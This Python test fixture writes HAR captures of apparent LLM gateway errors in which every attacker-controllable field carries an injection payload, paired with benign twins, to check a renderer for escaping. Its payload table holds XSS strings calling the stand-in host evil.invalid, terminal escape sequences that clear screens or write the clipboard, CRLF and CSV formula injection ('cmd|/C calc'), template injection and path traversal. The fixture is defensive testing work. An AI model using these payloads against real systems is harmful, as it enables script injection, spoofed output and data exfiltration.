"""Captures in which every text is an attack, and their twins without one.

A payload stands in every field of a HAR that a stranger fills in. Its twin is the same capture with
the payload's mark alone, so that whatever a payload creates in an output shows as a difference.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

ESC, BEL, NUL, CSI, ST = chr(27), chr(7), chr(0), chr(0x9B), chr(0x9C)
RLO, LRO, PDF, ZWSP, ZWJ, BOM = (chr(n) for n in (0x202E, 0x202D, 0x202C, 0x200B, 0x200D, 0xFEFF))
LS, NEL, SHY, TAG = chr(0x2028), chr(0x85), chr(0xAD), chr(0xE0041)

_TEXTS = {
    # HTML
    "script": "<script>window.PWNED=1;alert('MARK')</script>",
    "script-src": '<script src="https://evil.invalid/MARK.js"></script>',
    "img": '"><img src=x onerror="window.PWNED=1" alt=MARK>',
    "img-remote": "<img src=https://evil.invalid/MARK.png>",
    "svg": "<svg/onload=window.PWNED=1>MARK</svg>",
    "svg-animate": "<svg><animate onbegin=window.PWNED=1 attributeName=x dur=1s>MARK",
    "iframe": '<iframe srcdoc="<script>parent.PWNED=1</script>">MARK</iframe>',
    "object": '<object data="data:text/html,<script>1</script>">MARK</object><embed src=x>',
    "javascript": "javascript:window.PWNED=1//MARK",
    "data-url": "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+MARK",
    "attribute": "' onmouseover='window.PWNED=1' x='MARK",
    "attribute2": '" autofocus onfocus="window.PWNED=1" data-x="MARK',
    "style-end": "</style><style>*{display:none}</style>MARK",
    "style-attr": '<p style="position:fixed;inset:0;background:url(https://evil.invalid/MARK)">',
    "css": "expression(alert('MARK'));@import url(//evil.invalid/x.css);",
    "title-end": "MARK</title></head><body><h1>MARK</h1>",
    "pre-end": "</pre></details></main></body></html>MARK",
    "comment": "<!-- MARK",
    "comment-end": "--> MARK ]]>",
    "cdata": "<![CDATA[ MARK ]]><?xml MARK ?>",
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.invalid/MARK">',
    "base": '<base href="https://evil.invalid/"><link rel=stylesheet href=MARK.css>',
    "csp": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">MARK",
    "form": "<form action=//evil.invalid><button autofocus>MARK</button></form>",
    "entity": "&lt;script&gt;MARK&#60;b&#62;&amp;lt;",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=PWNED=1>'>MARK",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=PWNED=1>MARK",
    "template-el": "<template shadowrootmode=open><script>PWNED=1</script>MARK</template>",
    "dangling": "<a href='https://evil.invalid/MARK?",
    # Markdown
    "md-link": "[MARK](https://evil.invalid/MARK)",
    "md-js": "[MARK](javascript:alert(1))",
    "md-image": "![MARK](https://evil.invalid/MARK.png)",
    "md-ref": "[MARK][x]\n\n[x]: https://evil.invalid/MARK",
    "md-footnote": "MARK[^1]\n\n[^1]: https://evil.invalid/MARK",
    "md-autolink": "<https://evil.invalid/MARK> https://evil.invalid/MARK www.evil.invalid/MARK",
    "md-mail": "MARK <who@evil.invalid> MARK mailto:x@evil.invalid",
    "md-mention": "@MARK @octocat/team cc @everyone",
    "md-refs": "#123 GH-12 owner/repo#7 !42 ~5 %3 &9 $8 deadbeefcafe MARK fixes #1",
    "md-emoji": ":MARK: :+1: :100: :smile:",
    "md-fence": "```\nMARK\n```\n````\n~~~\nMARK",
    "md-code": "`MARK` ``MARK`` `` ` MARK",
    "md-table": "MARK | a | b\n--- | --- | ---\n1 | 2 | 3",
    "md-pipe": "MARK | | \\| `|` ||",
    "md-setext": "MARK\n===\nMARK\n---",
    "md-heading": "# MARK\n## MARK",
    "md-rule": "--- MARK\n***\n___",
    "md-list": "- MARK\n* MARK\n1. MARK\n+ MARK",
    "md-task": "- [ ] MARK\n- [x] MARK",
    "md-quote": "> MARK\n> [!WARNING]\n> MARK",
    "md-emphasis": "**MARK** *MARK* __MARK__ _MARK_ ~~MARK~~",
    "md-html": "<details open><summary>MARK</summary><b>MARK</b>",
    "md-math": "$MARK$ $$\\href{javascript:alert(1)}{MARK}$$ $`MARK`$",
    "md-escape": "\\*MARK\\* \\<b\\> \\\\ \\",
    "md-indent": "\n\n    MARK\n\n\tMARK",
    # Terminals
    "ansi-colour": f"{ESC}[31mMARK{ESC}[0m {ESC}[8mhidden{ESC}[0m",
    "ansi-clear": f"MARK{ESC}[2J{ESC}[H{ESC}[3J",
    "ansi-up": f"MARK{ESC}[5A{ESC}[2K OK 0 failed",
    "ansi-alt": f"{ESC}[?1049h{ESC}[?25lMARK{ESC}c",
    "osc-title": f"{ESC}]0;MARK{BEL}{ESC}]2;MARK{ESC}\\",
    "osc-link": f"{ESC}]8;;https://evil.invalid/MARK{ESC}\\MARK{ESC}]8;;{ESC}\\",
    "osc-clipboard": f"{ESC}]52;c;TUFSSw=={BEL}MARK",
    "dcs": f"{ESC}P$q q{ESC}\\MARK{ESC}P1000p",
    "report": f"MARK{ESC}[6n{ESC}[c{ESC}[21t{ESC}]11;?{BEL}",
    "c1": f"{CSI}31mMARK{CSI}2J{chr(0x9D)}0;MARK{ST}{NEL}",
    "backspace": "MARK" + "\b" * 4 + "OK\r0 failed",
    "bells": f"MARK{BEL}{BEL}{chr(14)}{chr(15)}{chr(127)}",
    # Characters
    "bidi": f"MARK {RLO}gpj.exe{PDF} {LRO}abc{chr(0x2066)}x{chr(0x2069)}",
    "zero-width": f"MA{ZWSP}RK {BOM}MARK{ZWJ}{SHY}{chr(0x2060)}",
    "nul": f"MARK{NUL}after",
    "crlf": "MARK\r\nSet-Cookie: x=1\r\n\r\n<html>\rMARK",
    "separators": f"MARK{LS}MARK{chr(0x2029)}{chr(11)}{chr(12)}x",
    "surrogate": "MARK " + chr(0xD800) + " MARK",
    "tags": f"MARK{TAG}{chr(0xE0042)}{chr(0xE007F)}",
    "combining": "MARK" + "e" + chr(0x0337) * 200 + chr(0x0489) * 50,
    "wide": "MARK " + "模型" * 60,
    "long": "MARK" + "x" * 5000,
    "long-many": "MARK " + "word " * 2000,
    "rtl": "MARK \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    # Others that read
    "csv": '=HYPERLINK("https://evil.invalid/MARK","MARK")',
    "csv-cmd": "+cmd|'/C calc'!A0 MARK",
    "csv-at": "@SUM(1+1)*cmd|MARK",
    "jinja": "{{7*7}} {% for x in () %}MARK{% endfor %} {{ ''.__class__.__mro__ }} {# MARK #}",
    "format": "%s %n {0} {x} ${MARK} $(MARK) `MARK`",
    "placeholder": "{{ model }} {{ host }} {{ MARK }}",
    "json-end": '"}],"x":{"MARK":"</script>',
    "path": "MARK ../../../../etc/hosts%00",
    "evidence": "E1 E2 [E3] MARK#1",
}

KEY = "Bearer " + "sk" + "-test-" + "Ab1" * 9
PAYLOADS = tuple(_TEXTS)
NAMES = tuple("abcdefghijklmnopqrstuvwxyz")
START = datetime(2026, 11, 22, 14, 0, tzinfo=UTC)
CHUNK = 8
"""Payloads in one capture: with five kinds of failure each they stay below forty groups."""


def mark(number: int) -> str:
    """Return the word by which a payload is found again: letters only, no meaning anywhere."""
    return f"qz{NAMES[number // 26]}{NAMES[number % 26]}vx"


def text(number: int, *, twin: bool) -> str:
    """Return a payload with its mark, or the mark alone."""
    own = mark(number)
    return own if twin else _TEXTS[PAYLOADS[number]].replace("MARK", own)


@dataclass(frozen=True)
class Capture:
    """One file with the payloads of a chunk."""

    path: Path
    numbers: tuple[int, ...]


def write(folder: Path, *, twin: bool) -> list[Capture]:
    """Write all captures into a folder."""
    folder.mkdir(parents=True, exist_ok=True)
    made = []
    for first in range(0, len(PAYLOADS), CHUNK):
        numbers = tuple(range(first, min(first + CHUNK, len(PAYLOADS))))
        path = folder / _file_name(first, twin=twin)
        # Whatever json writes is ASCII, so even a lone surrogate comes through as its escape.
        path.write_text(json.dumps(har(numbers, twin=twin)), encoding="ascii")
        made.append(Capture(path, numbers))
    return made


def _file_name(number: int, *, twin: bool) -> str:
    plain = re.sub(r"[/\x00\r\n]", "", text(number, twin=twin))
    return plain.encode("utf-8", "replace")[:120].decode("utf-8", "ignore") + ".har"


def har(numbers: tuple[int, ...], *, twin: bool) -> dict[str, Any]:
    """Return the capture: five failures for each payload, the first of them forty times."""
    entries: list[dict[str, Any]] = []
    for number in numbers:
        attack = text(number, twin=twin)
        for make in (_json_error, _page, _no_answer, _stream, _no_route):
            entries.append(make(number, attack))
    lead = text(numbers[-1], twin=twin)
    entries += [_no_route(number, lead) for number in [numbers[-1]] * 40]
    for i, entry in enumerate(entries):
        entry["startedDateTime"] = (START + timedelta(seconds=i * 7)).isoformat()
    title = text(numbers[0], twin=twin)
    return {
        "log": {
            "version": "1.2",
            "creator": {"name": title, "version": title, "comment": title},
            "browser": {"name": title, "version": title},
            "pages": [{"id": title, "title": title, "startedDateTime": title, "pageTimings": {}}],
            "comment": title,
            "entries": entries,
        }
    }


def _entry(
    attack: str, url: str, model: str, status: int, mime: str, body: str, **more: Any
) -> dict[str, Any]:
    asked = json.dumps({"model": model, "messages": [{"role": "user", "content": attack}]})
    return {
        "time": 1500,
        "request": {
            "method": "POST", "url": url, "httpVersion": attack,
            "headers": [
                {"name": "user-agent", "value": attack}, {"name": "authorization", "value": KEY},
                {"name": "content-type", "value": "application/json"},
                {"name": attack, "value": attack}, {"name": "x-stainless-lang", "value": attack},
            ],
            "cookies": [], "queryString": [],
            "postData": {"mimeType": "application/json", "text": asked},
        },
        "response": {
            "status": status, "statusText": attack, "httpVersion": attack,
            "headers": [{"name": name, "value": attack} for name in (
                "server", "via", "x-request-id", "retry-after", "cf-mitigated",
                attack)],
            "content": {"mimeType": mime, "size": len(body), "text": body},
            **more,
        },
        "timings": {"blocked": 1, "send": 1, "wait": 1400, "receive": 98},
        "comment": attack, "serverIPAddress": attack, "connection": attack, "pageref": attack,
    }  # fmt: skip


def _json_error(number: int, attack: str) -> dict[str, Any]:
    error = {"type": attack, "code": attack, "message": attack, "param": attack}
    body = json.dumps({"error": error, "request_id": attack})
    url = f"https://gw.example/v1/chat/completions/{attack}?q={attack}"
    return _entry(attack, url, attack, 400, "application/json", body)


def _page(number: int, attack: str) -> dict[str, Any]:
    body = (
        f"<html><head><title>{attack}</title></head><body><h1>{attack}</h1>{attack}</body></html>"
    )
    url = "https://gw.example/v1/chat/completions"
    return _entry(attack, url, attack, 560 + number % CHUNK, "text/html", body)


def _no_answer(number: int, attack: str) -> dict[str, Any]:
    # Before an @ stands a user name, hence a secret, which would be redacted everywhere; / ? # end
    # the host, and what is left would be no LLM traffic.
    host = re.sub(r"[@/?#\\]", "", attack)[:200]
    url = f"https://{host}/v1/chat/completions"
    return _entry(
        attack, url, "plain-model", 0, "", "", _error=f"net::ERR_NAME_NOT_RESOLVED {attack}"
    )


def _stream(number: int, attack: str) -> dict[str, Any]:
    event = {"error": {"type": attack, "code": attack, "message": attack}}
    body = f"event: error\ndata: {json.dumps(event)}\n\n"
    url = "https://gw.example/v1/chat/completions"
    return _entry(attack, url, "plain-model", 200, "text/event-stream", body)


def _no_route(number: int, attack: str) -> dict[str, Any]:
    """A failure whose rule names the model in its title, its prose and its steps."""
    error = {
        "type": "new_api_error", "code": "model_not_found",
        "message": f"No available channel for model {attack} under group default (distributor)",
    }  # fmt: skip
    url = f"https://{mark(number)}.example/v1/chat/completions"
    return _entry(attack, url, attack, 503, "application/json", json.dumps({"error": error}))
